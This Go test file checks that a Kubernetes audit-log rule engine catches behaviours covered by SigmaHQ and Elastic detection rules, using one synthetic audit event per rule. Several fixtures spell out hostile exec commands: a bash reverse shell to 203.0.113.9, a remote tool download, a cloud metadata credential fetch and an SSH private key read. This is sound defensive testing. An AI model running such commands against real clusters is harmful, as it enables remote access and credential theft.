package rules

import (
	"os"
	"path/filepath"
	"testing"

	authnv1 "k8s.io/api/authentication/v1"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"

	"github.com/kube-audit-kafka/kube-audit-kafka/internal/record"
)

// peerCase is one rule of SigmaHQ's or Elastic's Kubernetes audit rules, at
// its own level, with an event of the behaviour it describes (written here,
// not taken from the peers' queries).
type peerCase struct {
	suite, title string
	level        record.Severity
	ev           func(testing.TB) auditv1.Event
	// stateful: the peer's rule counts events (threshold, new terms); one
	// event cannot meet it, and it is reported, not required.
	stateful bool
}

func privImpersonation(ev *auditv1.Event) {
	ev.ImpersonatedUser = &authnv1.UserInfo{Username: "system:admin", Groups: []string{"system:masters"}}
}

func peerCases() []peerCase {
	rbac := "rbac.authorization.k8s.io"
	a := "kubernetes-admin" // on Falco's allow-list: disallowed_k8s_user does not help
	podIn := func(ns, extra, volumes string) func(testing.TB) auditv1.Event {
		return ev("create", "", "pods", "", ns, "netdebug", a, 201, podBody(extra, volumes))
	}
	return []peerCase{
		// SigmaHQ rules/application/kubernetes/audit.
		{"sigma", "Kubernetes Admission Controller Modification", record.SeverityMedium, ev("create", "admissionregistration.k8s.io", "mutatingwebhookconfigurations", "", "", "inject", a, 201, ""), false},
		{"sigma", "Kubernetes CronJob/Job Modification", record.SeverityMedium, ev("patch", "batch", "cronjobs", "", "shop", "cleanup", a, 200, `{"spec":{"schedule":"* * * * *"}}`), false},
		{"sigma", "Deployment Deleted From Kubernetes Cluster", record.SeverityLow, ev("delete", "apps", "deployments", "", "shop", "web", a, 200, ""), false},
		{"sigma", "Kubernetes Events Deleted", record.SeverityMedium, ev("delete", "", "events", "", "shop", "web.17a8c2e4b1f0", a, 200, ""), false},
		{"sigma", "Potential Remote Command Execution In Pod Container", record.SeverityMedium, execEv(a, "sh"), false},
		{"sigma", "Container With A hostPath Mount Created", record.SeverityLow, podIn("shop", "", `{"name":"logs","hostPath":{"path":"/var/log"}}`), false},
		{"sigma", "Creation Of Pod In System Namespace", record.SeverityMedium, podIn("kube-system", "", ""), false},
		{"sigma", "Kubernetes Potential Enumeration Activity", record.SeverityMedium, execEv(a, "/bin/bash"), false},
		{"sigma", "Privileged Container Deployed", record.SeverityLow, podIn("shop", `,"securityContext":{"privileged":true}`, ""), false},
		{"sigma", "RBAC Permission Enumeration Attempt", record.SeverityLow, ev("create", "authorization.k8s.io", "selfsubjectrulesreviews", "", "", "", a, 201, ""), false},
		{"sigma", "Kubernetes Rolebinding Modification", record.SeverityMedium, ev("create", rbac, "rolebindings", "", "shop", "edit-bob", a, 201, ""), false},
		{"sigma", "Kubernetes Secrets Enumeration", record.SeverityLow, ev("list", "", "secrets", "", "shop", "", a, 200, ""), false},
		{"sigma", "Kubernetes Secrets Modified or Deleted", record.SeverityMedium, ev("delete", "", "secrets", "", "shop", "db-creds", a, 200, ""), false},
		{"sigma", "New Kubernetes Service Account Created", record.SeverityLow, ev("create", "", "serviceaccounts", "", "shop", "backup", a, 201, ""), false},
		{"sigma", "Potential Sidecar Injection Into Running Deployment", record.SeverityMedium, ev("patch", "apps", "deployments", "", "shop", "web", a, 200,
			`{"spec":{"template":{"spec":{"containers":[{"name":"metrics","image":"busybox:1.36","command":["sh","-c","sleep 1d"]}]}}}}`), false},
		{"sigma", "Kubernetes Unauthorized or Unauthenticated Access", record.SeverityLow, ev("list", "", "pods", "", "shop", "", "", 403, "", asSA(saApp), withUA(uaClientGo), denied), false},

		// Elastic rules/integrations/kubernetes.
		{"elastic", "Kubernetes Secret or ConfigMap Access via Azure Arc Proxy", record.SeverityMedium, ev("list", "", "configmaps", "", "shop", "", "system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa", 200, ""), false},
		{"elastic", "Kubernetes Secret Access via Unusual User Agent", record.SeverityLow, ev("get", "", "secrets", "", "shop", "db-creds", "", 200, "", asSA(saApp), withUA("ruby-kubeclient/4.11")), false},
		{"elastic", "Kubernetes Rapid Secret GET Activity Against Multiple Objects", record.SeverityHigh, ev("get", "", "secrets", "", "shop", "api-key", "", 200, "", asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Kubernetes Pod Exec Cloud Instance Metadata Access", record.SeverityHigh, execEv(a, "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role"), false},
		{"elastic", "Kubernetes Pod Exec Sensitive File or Credential Path Access", record.SeverityHigh, execEv(a, "cat", "/root/.ssh/id_rsa"), false},
		{"elastic", "Kubernetes Secret get or list with Suspicious User Agent", record.SeverityHigh, ev("list", "", "secrets", "", "shop", "", a, 200, "", withUA(uaPython)), false},
		{"elastic", "Kubernetes Secret get or list from Node or Pod Service Account", record.SeverityMedium, ev("list", "", "secrets", "", "shop", "", "", 200, "", asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Kubernetes Secrets List Across Cluster or Sensitive Namespaces", record.SeverityHigh, ev("list", "", "secrets", "", "", "", "", 200, "", asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Kubernetes Service Account Token Created via TokenRequest API", record.SeverityMedium, ev("create", "", "serviceaccounts", "token", "shop", "deployer", a, 201, ""), false},
		{"elastic", "Kubernetes Events Deleted", record.SeverityLow, ev("deletecollection", "", "events", "", "shop", "", a, 200, ""), false},
		{"elastic", "Kubernetes Denied Service Account Request via Unusual User Agent", record.SeverityLow, ev("list", "", "nodes", "", "", "", "", 403, "", asSA(saApp), withUA("ruby-kubeclient/4.11"), denied), false},
		{"elastic", "Kubernetes Potential Endpoint Permission Enumeration Attempt by Anonymous User Detected", record.SeverityMedium, ev("list", "", "pods", "", "", "", "", 403, "", anonymous, withUA("ruby-kubeclient/4.11"), denied), false},
		{"elastic", "Kubernetes Potential Endpoint Permission Enumeration Attempt Detected", record.SeverityMedium, ev("list", "", "nodes", "", "", "", "", 403, "", asSA(saApp), withUA(uaClientGo), denied), true},
		{"elastic", "Kubernetes Multi-Resource Discovery", record.SeverityMedium, ev("list", "", "nodes", "", "", "", "", 200, "", asSA(saApp), withUA(uaClientGo)), true},
		{"elastic", "Kubernetes Suspicious Self-Subject Review via Unusual User Agent", record.SeverityLow, ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "", 201, "", asSA(saApp), withUA(uaKubectl)), false},
		{"elastic", "Kubernetes Anonymous User Create/Update/Patch Pods Request", record.SeverityMedium, ev("create", "", "pods", "", "default", "", "", 201, podBody("", ""), anonymous), false},
		{"elastic", "Kubernetes Forbidden Creation Request", record.SeverityMedium, ev("create", "", "configmaps", "", "shop", "", "", 403, "", asSA(saApp), withUA(uaClientGo), denied), false},
		{"elastic", "Kubernetes Forbidden Request from Unusual User Agent", record.SeverityMedium, ev("get", "", "pods", "", "shop", "web", a, 403, "", withUA(uaCurl), denied), false},
		{"elastic", "Kubernetes Pod Exec with Curl or Wget to HTTPS", record.SeverityHigh, execEv(a, "sh", "-c", "wget -qO /tmp/t https://203.0.113.9/tool"), false},
		{"elastic", "Kubernetes Pod Exec Potential Reverse Shell", record.SeverityHigh, execEv(a, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"), false},
		{"elastic", "Kubernetes Unusual Decision by User Agent", record.SeverityLow, ev("list", "", "pods", "", "shop", "", "", 200, "", asSA(saApp), withUA("ruby-kubeclient/4.11")), true},
		{"elastic", "Kubernetes User Exec into Pod", record.SeverityMedium, execEv(a, "sh"), false},
		{"elastic", "Kubernetes CoreDNS or Kube-DNS Configuration Modified", record.SeverityHigh, ev("update", "", "configmaps", "", "kube-system", "coredns", a, 200, `{"kind":"ConfigMap","data":{"Corefile":".:53 {}"}}`), false},
		{"elastic", "Kubernetes Anonymous Request Authorized by Unusual User Agent", record.SeverityMedium, ev("get", "", "namespaces", "", "", "default", "", 200, "", anonymous, withUA(uaCurl)), false},
		{"elastic", "Kubernetes Cluster-Admin Role Binding Created", record.SeverityMedium, ev("create", rbac, "clusterrolebindings", "", "", "ops-admin", a, 201,
			`{"kind":"ClusterRoleBinding","roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}`), false},
		{"elastic", "Kubernetes Exposed Service Created With Type NodePort", record.SeverityMedium, ev("create", "", "services", "", "shop", "web", a, 201, `{"kind":"Service","spec":{"type":"NodePort","ports":[{"port":80,"nodePort":30080}]}}`), false},
		{"elastic", "Kubernetes Admission Webhook Created or Modified", record.SeverityMedium, ev("patch", "admissionregistration.k8s.io", "validatingwebhookconfigurations", "", "", "policy", a, 200, `{"webhooks":[{"name":"x","failurePolicy":"Ignore"}]}`), false},
		{"elastic", "Kubernetes Client Certificate Signing Request Created or Approved", record.SeverityHigh, csrEv("ops-laptop", "ops"), false},
		{"elastic", "EKS Authentication Configuration Modified", record.SeverityHigh, ev("patch", "", "configmaps", "", "kube-system", "aws-auth", a, 200, `{"data":{"mapRoles":"- rolearn: arn:aws:iam::444455556666:role/x\n  groups: [system:masters]\n"}}`), false},
		{"elastic", "Kubernetes Creation or Modification of Sensitive Role", record.SeverityMedium, ev("create", rbac, "clusterroles", "", "", "secret-reader", a, 201, roleBody("ClusterRole", `["get","list"]`, `["secrets"]`)), false},
		{"elastic", "Kubernetes Creation of a RoleBinding Referencing a ServiceAccount", record.SeverityMedium, ev("create", rbac, "rolebindings", "", "shop", "ci", a, 201,
			`{"kind":"RoleBinding","roleRef":{"kind":"ClusterRole","name":"edit"},"subjects":[{"kind":"ServiceAccount","name":"ci","namespace":"shop"}]}`), false},
		{"elastic", "Kubernetes API Server Proxying Request to Kubelet", record.SeverityMedium, ev("get", "", "nodes", "proxy", "", "worker-2", a, 200, ""), false},
		{"elastic", "Kubernetes Container Created with Excessive Linux Capabilities", record.SeverityMedium, podIn("shop", `,"securityContext":{"capabilities":{"add":["SYS_MODULE"]}}`, ""), false},
		{"elastic", "Kubernetes API Request Impersonating Privileged Identity", record.SeverityHigh, ev("list", "", "secrets", "", "kube-system", "", a, 200, "", privImpersonation), false},
		{"elastic", "Kubernetes Ephemeral Container Added to Pod", record.SeverityMedium, ephemeralEv("sh"), false},
		{"elastic", "Kubernetes Pod Created With HostIPC", record.SeverityMedium, ev("create", "", "pods", "", "shop", "p", a, 201, `{"kind":"Pod","spec":{"hostIPC":true,"containers":[{"name":"c","image":"alpine:3.20"}]}}`), false},
		{"elastic", "Kubernetes Pod Created With HostNetwork", record.SeverityMedium, ev("create", "", "pods", "", "shop", "p", a, 201, `{"kind":"Pod","spec":{"hostNetwork":true,"containers":[{"name":"c","image":"alpine:3.20"}]}}`), false},
		{"elastic", "Kubernetes Pod Created With HostPID", record.SeverityMedium, ev("create", "", "pods", "", "shop", "p", a, 201, `{"kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"c","image":"alpine:3.20"}]}}`), false},
		{"elastic", "Kubernetes Pod Created with a Sensitive hostPath Volume", record.SeverityMedium, podIn("shop", "", `{"name":"sock","hostPath":{"path":"/var/run/containerd/containerd.sock"}}`), false},
		{"elastic", "Kubernetes Privileged Pod Created", record.SeverityMedium, podIn("shop", `,"securityContext":{"privileged":true}`, ""), false},
		{"elastic", "Kubernetes RBAC Wildcard Elevation on Existing Role", record.SeverityHigh, ev("update", rbac, "roles", "", "shop", "dev", a, 200, roleBody("Role", `["*"]`, `["*"]`)), false},
		{"elastic", "Kubernetes Sensitive RBAC Change Followed by Workload Modification", record.SeverityMedium, ev("patch", rbac, "clusterrolebindings", "", "", "ci", "", 200, `{"subjects":[{"kind":"ServiceAccount","name":"checkout","namespace":"shop"}]}`, asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Unusual Kubernetes Sensitive Workload Modification", record.SeverityLow, ev("patch", "apps", "daemonsets", "", "shop", "node-agent", "", 200, `{"spec":{"template":{"metadata":{"annotations":{"x":"y"}}}}}`, asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Kubernetes Service Account Modified RBAC Objects", record.SeverityMedium, ev("create", rbac, "roles", "", "shop", "r", "", 201, roleBody("Role", `["get"]`, `["pods"]`), asSA(saApp), withUA(uaClientGo)), false},
		{"elastic", "Kubernetes Suspicious Assignment of Controller Service Account", record.SeverityMedium, ev("create", "", "pods", "", "kube-system", "p", a, 201,
			`{"kind":"Pod","spec":{"serviceAccountName":"daemon-set-controller","containers":[{"name":"c","image":"alpine:3.20"}]}}`), false},
	}
}

// TestPeerCoverage rates one event per rule of SigmaHQ's and Elastic's
// Kubernetes audit sets against the rule's own level, with the catch-all
// disallowed_k8s_user switched off (events by an allow-listed administrator
// or a service account), so that only a rule that understands the behaviour
// meets it. Rules that count events (thresholds, new terms) are reported.
func TestPeerCoverage(t *testing.T) {
	file := filepath.Join(t.TempDir(), "off.yaml")
	if err := os.WriteFile(file, []byte("rules:\n- {id: disallowed_k8s_user, enabled: false}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	en := newRules(t, file, "extend")
	met := map[string]int{}
	total := map[string]int{}
	for _, c := range peerCases() {
		total[c.suite]++
		e := c.ev(t)
		rec, drop := en.Enrich(&e)
		if drop != "" {
			t.Fatalf("%s: dropped", c.title)
		}
		got := record.Severity(rec.Enrichment.SeverityID)
		switch {
		case got >= c.level:
			met[c.suite]++
		case c.stateful:
			t.Logf("not met (counts events): %s %q: %s, want %s %v", c.suite, c.title, got, c.level, rec.Enrichment.Rules)
		default:
			t.Errorf("%s %q: rated %s, want %s (rules %v)", c.suite, c.title, got, c.level, rec.Enrichment.Rules)
		}
	}
	t.Logf("met without disallowed_k8s_user: sigma %d of %d, elastic %d of %d", met["sigma"], total["sigma"], met["elastic"], total["elastic"])
	if total["sigma"] != 16 || total["elastic"] != 45 {
		t.Errorf("cases: sigma %d, elastic %d; want 16 and 45", total["sigma"], total["elastic"])
	}
}
